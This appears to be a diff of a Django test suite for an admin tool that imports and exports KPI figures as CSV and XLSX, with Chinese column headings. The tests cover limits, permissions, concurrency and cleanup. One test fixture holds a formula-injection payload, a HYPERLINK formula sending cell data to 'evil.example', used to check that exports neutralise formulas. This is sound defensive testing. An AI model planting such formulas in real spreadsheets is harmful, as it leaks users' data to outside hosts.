@@ -6,21 +6,28 @@ drafts entered by the official; rows for other departments' indicators count as 
 
 import datetime
 import io
+import os
+import tempfile
 from html.parser import HTMLParser
 
 import openpyxl
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
-from django.utils import translation
+from django.test import Client
+from django.utils import timezone, translation
 from django.utils.html import escape
 
+from kpis import roles
 from kpis.models import Actual
+from kpis.resources import ImportUpload
+from tests.conftest import make_user
 
 IMPORT_URL = "/admin/kpis/actual/import/"
 CONFIRM_URL = "/admin/kpis/actual/process_import/"
 TEMPLATE_URL = "/admin/kpis/actual/import-template/"
 CSV, XLSX = 0, 1
 COLUMNS = ["indicator_code", "period_end", "value", "note", "evidence_url", "confirm"]
+MARCH = datetime.date(2024, 3, 31)
 
 
 class ConfirmFormParser(HTMLParser):
@@ -34,7 +41,7 @@ class ConfirmFormParser(HTMLParser):
 
     def handle_starttag(self, tag, attrs):
         attrs = dict(attrs)
-        if tag == "form" and (attrs.get("action") or "").endswith(CONFIRM_URL):
+        if tag == "form" and (attrs.get("action") or "").endswith("/process_import/"):
             self.inside = self.found = True
         elif tag == "input" and self.inside and attrs.get("name"):
             self.fields[attrs["name"]] = attrs.get("value") or ""
@@ -90,6 +97,12 @@ def import_and_confirm(client, content, **kwargs):
     if fields is None:
         return None
     return client.post(CONFIRM_URL, fields)
+
+
+@pytest.fixture(autouse=True)
+def own_temp_folder(tmp_path, monkeypatch):
+    """Uploads wait in a temp folder of this test's own, not the machine's shared one."""
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
 
 
 @pytest.fixture
@@ -203,14 +216,20 @@ def test_file_with_one_bad_row_shows_its_error_and_writes_nothing(
     assert not Actual.objects.exists()
 
 
-def test_file_with_wrong_headers_is_refused(entry, indicator):
-    content = csv_file(
-        [(indicator.code, "2024-03-31", "40")], header=["指标代码", "报告期", "数值"]
-    )
+def test_file_with_wrong_headers_names_the_missing_columns_without_a_traceback(entry, indicator):
+    content = csv_file([(indicator.code, "2024-03-31", "40")], header=["code", "date", "amount"])
     html = dry_run(entry, content).content.decode()
-    assert "indicator_code" in report(html)
+    assert "“指标代码”, “报告期末”, “数值”" in report(html)
+    assert "Traceback" not in html and "site-packages" not in html
     assert confirm_form(html) is None
-    assert not Actual.objects.exists()
+
+
+def test_chinese_headers_are_accepted(entry, indicator):
+    header = ["指标代码", "报告期末", "数值", "内部备注", "佐证材料链接", "确认异常数据"]
+    rows = [(indicator.code, "2024-03-31", "40", "季度统计", "", "")]
+    import_and_confirm(entry, csv_file(rows, header=header))
+    actual = Actual.objects.get()
+    assert (actual.period_end, actual.value, actual.note) == (MARCH, 40, "季度统计")
 
 
 def test_same_indicator_and_period_twice_is_refused(entry, indicator):
@@ -296,25 +315,300 @@ def test_reviewer_cannot_import_figures(client, reviewer, indicator):
     assert not Actual.objects.exists()
 
 
+def template_rows(client):
+    """The template's sheet, its header and its rows as lists."""
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get(TEMPLATE_URL).content)).active
+    header, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
+    return sheet, header, rows
+
+
 def test_template_lists_the_due_periods_of_the_officials_departments_only(
     entry, indicator, foreign_indicator, make_actual
 ):
-    make_actual(indicator, period_end=datetime.date(2024, 3, 31), value="40")
-    response = entry.get(TEMPLATE_URL)
-    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
-    header, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
-    periods = {str(row[header.index("period_end")]) for row in rows}
-    assert {row[header.index("indicator_code")] for row in rows} == {indicator.code}
+    make_actual(indicator, period_end=MARCH, value="40")
+    _, header, rows = template_rows(entry)
+    periods = {str(row[header.index("报告期末")]) for row in rows}
+    assert {row[header.index("指标代码")] for row in rows} == {indicator.code}
     assert "2024-06-30" in periods and "2024-03-31" not in periods
-    assert set(COLUMNS) <= set(header)
+
+
+def test_template_names_indicator_unit_and_period_in_chinese(entry, indicator):
+    _, header, rows = template_rows(entry)
+    columns = ["指标代码", "指标名称", "计量单位", "报告期", "报告期末", "数值", "内部备注"]
+    assert header[: len(columns)] == columns
+    # Due from 2023, the year before the indicator's first target.
+    assert rows[1][:5] == [indicator.code, "脑科学企业", "家", "2023年二季度", "2023-06-30"]
+
+
+def test_template_is_a_named_sheet_with_a_frozen_header_and_a_confirm_drop_down(entry, indicator):
+    sheet, header, rows = template_rows(entry)
+    confirm = openpyxl.utils.get_column_letter(header.index("确认异常数据") + 1)
+    (choices,) = sheet.data_validations.dataValidation
+    assert (sheet.title, sheet.freeze_panes) == ("待填报数据", "A2")
+    assert (choices.formula1, f"{confirm}2" in choices.sqref) == ('"是,否"', True)
+
+
+def test_template_columns_are_wide_enough_for_their_longest_text(entry, make_indicator, department):
+    make_indicator(name="在建和运营的重大科技创新载体数量", department=department, target="1")
+    sheet, header, _ = template_rows(entry)
+    name_column = openpyxl.utils.get_column_letter(header.index("指标名称") + 1)
+    # 16 Chinese characters take the room of 32 Latin ones.
+    assert sheet.column_dimensions[name_column].width >= 32
 
 
 def test_filled_in_template_imports(entry, official, indicator):
-    sheet = openpyxl.load_workbook(io.BytesIO(entry.get(TEMPLATE_URL).content)).active
-    header, first, *_ = [list(row) for row in sheet.iter_rows(values_only=True)]
-    first[header.index("value")] = 40
+    _, header, (first, *_) = template_rows(entry)
+    first[header.index("数值")] = 40
     content = xlsx_file([first], header=header)
     import_and_confirm(entry, content, name="figures-due.xlsx", file_format=XLSX)
     actual = Actual.objects.get()
-    assert (actual.indicator, actual.period_end.isoformat()) == (indicator, "2024-03-31")
+    # The first period due: from 2023, the year before the indicator's first target.
+    assert (actual.indicator, actual.period_end.isoformat()) == (indicator, "2023-03-31")
     assert (actual.value, actual.status, actual.entered_by) == (40, "draft", official)
+
+
+def test_template_with_two_of_66_due_rows_filled_imports_two_drafts_and_skips_64(
+    entry, official, make_indicator, department, monkeypatch
+):
+    monkeypatch.setattr(timezone, "localdate", lambda *args: datetime.date(2024, 7, 20))
+    for number in range(11):  # quarterly from 2023: six periods due each by July 2024
+        make_indicator(name=f"脑科学指标{number}", department=department, target="100")
+    _, header, rows = template_rows(entry)
+    for row, value in zip(rows[:2], (40, 42), strict=True):
+        row[header.index("数值")] = value
+    content = xlsx_file(rows, header=header)
+    preview = dry_run(entry, content, name="figures-due.xlsx", file_format=XLSX)
+    response = import_and_confirm(entry, content, name="figures-due.xlsx", file_format=XLSX)
+    assert len(rows) == 66 and "64行未填写，已跳过。" in report(preview.content.decode())
+    assert "64行未填写，已跳过。" in entry.get(response.url).content.decode()
+    assert list(Actual.objects.values_list("status", "entered_by")) == [("draft", official.pk)] * 2
+
+
+def test_preview_names_each_indicator_and_says_what_happens(entry, indicator, make_actual):
+    make_actual(indicator, period_end=MARCH, value="40")
+    rows = [
+        (indicator.code, "2024-03-31", "41", "统计局更正", "", ""),
+        (indicator.code, "2024-06-30", "42", "", "", ""),
+    ]
+    preview = report(dry_run(entry, csv_file(rows)).content.decode())
+    assert "<td>脑科学企业</td>" in preview and "<td>2024年二季度：42家</td>" in preview
+    assert "修改已发布数据：成为修订" in preview and "新建草稿" in preview
+
+
+def test_errors_give_the_spreadsheets_own_row_number_and_column(entry, indicator):
+    rows = [
+        (indicator.code, "2024-03-31", "40", "", "", ""),
+        (indicator.code, "2024-06-30", "-5", "", "", ""),
+    ]
+    html = report(dry_run(entry, csv_file(rows)).content.decode())
+    # The heading is row 1, so the second figure is on the sheet's row 3.
+    assert f"<tr><td>3</td><td>数值</td><td>{shown('Counts and money cannot be negative.')}" in html
+
+
+def test_errors_of_an_xlsx_row_with_empty_cells_show_no_none(entry, indicator):
+    rows = [(indicator.code, "2024-05-31", 40, None, None, None)]
+    html = report(dry_run(entry, xlsx_file(rows), "f.xlsx", XLSX).content.decode())
+    assert "报告期末" in html and "None" not in html
+
+
+def test_error_heading_is_not_django_import_exports_garbled_chinese(entry, indicator):
+    rows = [(indicator.code, "2024-05-31", "40", "", "", "")]
+    html = dry_run(entry, csv_file(rows)).content.decode()
+    assert "某些行验数据证失败" not in html
+    assert "部分行未通过校验" in html
+
+
+@pytest.mark.parametrize("word", ["NaN", "Infinity", "-inf", "四十"])
+def test_a_word_in_the_value_column_is_refused_as_not_a_figure(entry, indicator, word):
+    rows = [(indicator.code, "2024-03-31", word, "", "", "")]
+    html = report(dry_run(entry, csv_file(rows)).content.decode())
+    assert shown("“%(value)s” is not a figure: write it in digits, e.g. 42.5.", value=word) in html
+    assert "InvalidOperation" not in html
+
+
+def test_a_row_with_a_note_but_no_value_is_refused_not_skipped(entry, indicator):
+    rows = [(indicator.code, "2024-03-31", "", "数据尚未出来", "", "")]
+    html = dry_run(entry, csv_file(rows)).content.decode()
+    assert shown("Fill in the figure, or leave the row's other cells empty.") in report(html)
+    assert confirm_form(html) is None
+
+
+@pytest.mark.parametrize(("make_file", "file_format"), [(csv_file, CSV), (xlsx_file, XLSX)])
+def test_file_with_more_rows_than_the_limit_is_refused(
+    entry, indicator, settings, make_file, file_format
+):
+    settings.IMPORT_MAX_ROWS = 2
+    rows = [
+        (indicator.code, f"2024-{end}", "40", "", "", "") for end in ("03-31", "06-30", "09-30")
+    ]
+    html = dry_run(entry, make_file(rows), "f", file_format).content.decode()
+    limit = (
+        "The file has more than %(limit)d rows, the most one import takes. "
+        "Split it into smaller files."
+    )
+    assert shown(limit, limit=2) in report(html)
+    assert confirm_form(html) is None
+
+
+def test_empty_rows_below_the_last_filled_one_do_not_count_against_the_limit(
+    entry, indicator, settings
+):
+    settings.IMPORT_MAX_ROWS = 2
+    rows = [(indicator.code, "2024-03-31", 40, None, None, None)] + [(None,) * 6] * 5
+    import_and_confirm(entry, xlsx_file(rows), name="f.xlsx", file_format=XLSX)
+    assert Actual.objects.count() == 1
+
+
+def test_file_larger_than_the_limit_is_refused_before_it_is_read(entry, indicator, settings):
+    settings.IMPORT_MAX_BYTES = 100
+    rows = [(indicator.code, "2024-03-31", "40", "备注" * 40, "", "")]
+    html = dry_run(entry, csv_file(rows)).content.decode()
+    assert "每次最多可导入100\xa0字节" in html
+    assert confirm_form(html) is None
+
+
+def test_figure_changed_after_the_dry_run_is_refused_and_nothing_is_imported(
+    entry, indicator, make_actual
+):
+    actual = make_actual(indicator, period_end=MARCH, value="40", status=Actual.Status.DRAFT)
+    rows = [
+        (indicator.code, "2024-03-31", "41", "", "", ""),
+        (indicator.code, "2024-06-30", "42", "", "", ""),
+    ]
+    fields = confirm_form(dry_run(entry, csv_file(rows)).content.decode())
+    colleagues_copy = Actual.objects.get(pk=actual.pk)
+    colleagues_copy.value = 45
+    colleagues_copy.save_edit()
+    html = entry.post(CONFIRM_URL, fields).content.decode()
+    message = (
+        "Someone changed this figure after your dry run. Nothing was imported: "
+        "upload the file again to see the figure as it is now."
+    )
+    assert shown(message) in report(html)
+    assert list(Actual.objects.values_list("period_end", "value")) == [(MARCH, 45)]
+
+
+def test_figure_entered_by_someone_else_after_the_dry_run_is_not_overwritten(
+    entry, indicator, make_actual
+):
+    rows = [(indicator.code, "2024-03-31", "41", "", "", "")]
+    fields = confirm_form(dry_run(entry, csv_file(rows)).content.decode())
+    make_actual(indicator, period_end=MARCH, value="45", status=Actual.Status.DRAFT)
+    entry.post(CONFIRM_URL, fields)
+    assert list(Actual.objects.values_list("value", flat=True)) == [45]
+
+
+def test_confirmation_cannot_read_or_remove_any_other_file(entry, indicator):
+    with tempfile.NamedTemporaryFile("w", suffix=".csv", delete=False) as other:
+        other.write(csv_file([(indicator.code, "2024-03-31", "40", "", "", "")]).decode())
+    fields = {"import_file_name": os.path.basename(other.name), "format": str(CSV)}
+    response = entry.post(CONFIRM_URL, {**fields, "original_file_name": "x.csv", "resource": ""})
+    assert os.path.exists(other.name) and not Actual.objects.exists()
+    os.remove(other.name)
+    assert shown("This import has expired. Upload the file again.") in (
+        entry.get(response.url).content.decode()
+    )
+
+
+def test_an_officials_dry_run_cannot_be_confirmed_by_a_colleague(entry, department, indicator):
+    rows = [(indicator.code, "2024-03-31", "40", "", "", "")]
+    fields = confirm_form(dry_run(entry, csv_file(rows)).content.decode())
+    colleague = make_user("colleague", roles.DATA_ENTRY)
+    department.members.add(colleague)
+    other = Client()
+    other.force_login(colleague)
+    other.post(CONFIRM_URL, fields)
+    assert not Actual.objects.exists()
+
+
+def test_a_dry_run_confirmed_twice_imports_once_and_then_says_it_expired(entry, indicator):
+    rows = [(indicator.code, "2024-03-31", "40", "", "", "")]
+    fields = confirm_form(dry_run(entry, csv_file(rows)).content.decode())
+    entry.post(CONFIRM_URL, fields)
+    again = entry.post(CONFIRM_URL, fields, follow=True).content.decode()
+    assert Actual.objects.count() == 1
+    assert shown("This import has expired. Upload the file again.") in again
+
+
+def test_template_words_a_year_to_date_indicators_periods_as_the_months_it_sums(
+    entry, make_indicator, department
+):
+    make_indicator(department=department, target="100", reported_as="year_to_date")
+    _, header, rows = template_rows(entry)
+    assert rows[1][header.index("报告期")] == "2023年1–6月累计"
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+EXPORT_FIELDS = ["indicator", "indicator_name", "unit", "period", "period_end", "value"]
+EXPORT_FIELDS += ["note", "evidence_url", "status"]
+
+
+def admin_export(client, file_format):
+    fields = {f"actualresource_{name}": "on" for name in EXPORT_FIELDS}
+    data = {"format": str(file_format), "resource": "0", **fields}
+    return client.post("/admin/kpis/actual/export/", data).content
+
+
+@pytest.fixture
+def formula_figure(make_indicator, department, make_actual):
+    indicator = make_indicator(name="=1+1", department=department, target="100")
+    return make_actual(indicator, period_end=MARCH, value="40", note=FORMULA)
+
+
+def test_admin_csv_export_writes_formulas_as_plain_text(client, admin_user, formula_figure):
+    client.force_login(admin_user)
+    lines = admin_export(client, CSV).decode("utf-8-sig").splitlines()
+    assert lines[0].startswith("指标代码,指标名称,计量单位,报告期,报告期末,数值,内部备注")
+    assert ",'=1+1," in lines[1] and ",\"'=HYPERLINK(" in lines[1]
+
+
+def test_admin_xlsx_export_writes_formulas_as_plain_text(client, admin_user, formula_figure):
+    client.force_login(admin_user)
+    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(client, XLSX))).active
+    header, row = list(sheet.iter_rows(min_row=1, max_row=2))
+    cells = {title.value: cell for title, cell in zip(header, row, strict=True)}
+    assert (cells["指标名称"].value, cells["内部备注"].value) == ("'=1+1", "'" + FORMULA)
+    assert {cells["指标名称"].data_type, cells["内部备注"].data_type} == {"s"}
+
+
+def test_template_writes_an_indicator_name_that_looks_like_a_formula_as_text(
+    entry, make_indicator, department
+):
+    make_indicator(name="=1+1", department=department, target="100")
+    sheet, header, rows = template_rows(entry)
+    assert rows[0][header.index("指标名称")] == "'=1+1"
+    assert sheet.cell(row=2, column=header.index("指标名称") + 1).data_type == "s"
+
+
+def test_uploads_of_dry_runs_never_confirmed_are_removed_after_a_day(entry, indicator):
+    rows = [(indicator.code, "2024-03-31", "40", "", "", "")]
+    dry_run(entry, csv_file(rows))
+    abandoned = [entry.path for entry in os.scandir(ImportUpload.folder())]
+    for path in abandoned:
+        os.utime(path, (0, 0))
+    dry_run(entry, csv_file(rows))
+    assert abandoned and not any(os.path.exists(path) for path in abandoned)
+
+
+def test_import_page_lists_the_columns_by_their_chinese_headings(entry):
+    html = entry.get(IMPORT_URL).content.decode()
+    assert "<code>指标代码, 指标名称, 计量单位, 报告期, 报告期末, 数值, 内部备注" in html
+    assert "indicator_code" not in html
+
+
+def test_reviewer_cannot_confirm_an_import(entry, reviewer, indicator):
+    rows = [(indicator.code, "2024-03-31", "40", "", "", "")]
+    fields = confirm_form(dry_run(entry, csv_file(rows)).content.decode())
+    reviewers = Client()
+    reviewers.force_login(reviewer)
+    assert reviewers.post(CONFIRM_URL, fields).status_code == 403
+    assert not Actual.objects.exists()
+
+
+def test_a_file_that_is_not_a_spreadsheet_is_refused_with_a_message(entry):
+    html = dry_run(entry, b"not a workbook", name="figures.xlsx", file_format=XLSX)
+    message = (
+        "The file could not be read: check that the format chosen (CSV or XLSX) is the file's."
+    )
+    assert shown(message) in html.content.decode()
+    assert "BadZipFile" not in html.content.decode()
